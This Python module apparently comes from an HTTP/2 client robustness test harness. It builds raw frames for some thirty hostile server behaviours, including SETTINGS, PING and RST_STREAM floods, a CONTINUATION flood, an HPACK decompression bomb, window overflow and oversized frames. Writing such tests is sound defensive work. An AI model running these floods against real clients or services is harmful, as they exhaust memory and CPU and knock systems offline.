"""attack_h2.py - HTTP/2 servers that do what the protocol allows, or nearly, without end (RFC 9113 10.5)."""
import os
import struct

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
STREAM = 1
CHUNK = 65536

# HPACK (RFC 7541): ":status: 200" and "content-type: text/plain", indexed and literal.
OK_HEADERS = b"\x88\x5f\x0atext/plain"


def frame(kind, flags=0, stream=STREAM, payload=b"", length=None):
    n = len(payload) if length is None else length
    return struct.pack("!BHBBI", n >> 16, n & 0xffff, kind, flags, stream) + payload


def literal(name, value):
    """A header field that is not indexed; both parts shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


PREFACE = frame(SETTINGS, stream=0)
HEAD = PREFACE + frame(HEADERS, END_HEADERS, payload=OK_HEADERS)
REQUEST = b"\x82\x87\x84\x41\x01a"  # GET https / on authority "a"


def often(piece):
    """As many of a piece as make a chunk worth sending."""
    return piece * max(1, CHUNK // len(piece))


def flood(sock, first, piece):
    sock.sendall(first)
    chunk = often(piece)
    while True:
        sock.sendall(chunk)


def numbered(make, step=2, first=2):
    """Frames on ever new streams."""
    def attack(sock):
        sock.sendall(PREFACE)
        at = first
        while True:
            pieces = []
            for _ in range(512):
                pieces.append(make(at))
                at += step
            sock.sendall(b"".join(pieces))
    return attack


def once(*pieces):
    return lambda sock: (sock.sendall(b"".join(pieces)), hold(sock))


def hold(sock):
    while sock.recv(65536):
        pass


def head_then(piece):
    return lambda sock: flood(sock, HEAD, piece)


def settings_then(piece):
    return lambda sock: flood(sock, PREFACE, piece)


def continuation(piece):
    def attack(sock):
        flood(sock, PREFACE + frame(HEADERS, payload=b"\x88"), frame(CONTINUATION, payload=piece))
    return attack


def hpack_bomb(sock):
    """A field of 4 KB in the dynamic table, named by one byte a time: 64 MB out of 16 KB, again and again."""
    big = b"\x40\x01x" + b"\x7f" + b"\xa1\x1e" + b"v" * 4000
    while True:
        sock.sendall(PREFACE + frame(HEADERS, END_HEADERS, payload=b"\x88" + big + b"\xbe" * 12000))


def window_overflow(sock):
    sock.sendall(PREFACE)
    for _ in range(4):
        sock.sendall(frame(WINDOW_UPDATE, payload=struct.pack("!I", 0x7fffffff)))
    hold(sock)


def push(at):
    return frame(PUSH_PROMISE, END_HEADERS, payload=struct.pack("!I", at) + REQUEST)


def beyond_window(sock):
    """More DATA than the client's window has room for."""
    flood(sock, HEAD, frame(DATA, payload=b"x" * 16384))


ATTACKS = {
    "h2-settings": settings_then(frame(SETTINGS, stream=0, payload=struct.pack("!HI", 1, 4096))),
    "h2-settings-empty": settings_then(frame(SETTINGS, stream=0)),
    "h2-settings-ack": settings_then(frame(SETTINGS, ACK, stream=0)),
    "h2-settings-table": settings_then(frame(SETTINGS, stream=0, payload=struct.pack("!HI", 1, 0xffffffff))),
    "h2-ping": settings_then(frame(PING, stream=0, payload=b"8 octets")),
    "h2-ping-ack": settings_then(frame(PING, ACK, stream=0, payload=b"8 octets")),
    "h2-priority": settings_then(frame(PRIORITY, payload=struct.pack("!IB", 0, 16))),
    "h2-unknown": settings_then(frame(0xfa, payload=b"")),
    "h2-continuation": continuation(literal(b"x-h", b"v" * 100)),
    "h2-continuation-empty": continuation(b""),
    "h2-headers": settings_then(frame(HEADERS, END_HEADERS, payload=b"\x08\x03103")),
    "h2-hpack-bomb": hpack_bomb,
    "h2-push": numbered(push),
    "h2-push-reset": numbered(lambda at: push(at) + frame(RST_STREAM, stream=at, payload=bytes(4))),
    "h2-reset": once(HEAD, frame(RST_STREAM, payload=struct.pack("!I", 2))),
    "h2-refused": once(HEAD, frame(RST_STREAM, payload=struct.pack("!I", 7))),
    "h2-reset-flood": numbered(lambda at: frame(RST_STREAM, stream=STREAM, payload=bytes(4))),
    "h2-reset-idle": numbered(lambda at: frame(RST_STREAM, stream=at, payload=bytes(4))),
    "h2-goaway": settings_then(frame(GOAWAY, stream=0, payload=struct.pack("!II", STREAM, 0) + b"d" * 64)),
    "h2-window-overflow": window_overflow,
    "h2-window-ones": settings_then(frame(WINDOW_UPDATE, stream=0, payload=struct.pack("!I", 1))),
    "h2-window-zero": once(PREFACE, frame(WINDOW_UPDATE, payload=bytes(4))),
    "h2-data-empty": head_then(frame(DATA)),
    "h2-data-padding": head_then(frame(DATA, 8, payload=b"\xff" + bytes(255))),
    "h2-data-endless": beyond_window,
    "h2-data-early": once(PREFACE, frame(DATA, payload=b"x")),
    "h2-data-stream-0": once(PREFACE, frame(DATA, stream=0, payload=b"x")),
    "h2-frame-huge": once(PREFACE, frame(DATA, payload=os.urandom(64), length=0xffffff)),
    "h2-garbage": lambda sock: flood(sock, b"", os.urandom(4096)),
    "h2-silent": once(PREFACE),
    "h2-headers-silent": once(HEAD),
}
